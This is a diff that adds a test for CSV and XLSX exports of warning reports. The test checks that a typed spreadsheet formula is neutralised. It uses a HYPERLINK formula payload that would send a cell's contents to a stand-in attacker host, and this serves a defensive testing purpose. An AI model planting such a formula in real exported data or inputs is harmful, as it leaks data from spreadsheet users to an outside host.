@@ -93,6 +93,25 @@ def test_export_csv(users, tmp_path):
     assert rows[0] == EXPECTED_HEADERS and len(rows) == 2
 
 
+def test_csv_and_xlsx_never_run_a_typed_formula(users, tmp_path):
+    """A description typed on the warning form reaches the export: a CSV opened in Excel must not run it."""
+    attack = '=HYPERLINK("http://evil.example/?d="&B2,"详情")'
+    services.warning_report(
+        household=household(),
+        actor=users["village_clerk"],
+        channel="city",
+        risk_type="housing",
+        description=attack,
+    )
+    path = tmp_path / "warnings.csv"
+    warnings_export(actor=users["town_station"], queryset=EarlyWarning.objects.all(), path=path)
+    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
+    assert rows[1][5] == "'" + attack
+    path = tmp_path / "warnings.xlsx"
+    warnings_export(actor=users["town_station"], queryset=EarlyWarning.objects.all(), path=path)
+    assert _rows(path.read_bytes())[1][5] == attack  # a text cell, shown as typed
+
+
 def test_web_export_follows_scope_and_filters(client, users):
     mine = make_warning(household(), risk_type="illness")
     make_warning(household(), risk_type="housing", source="housing")
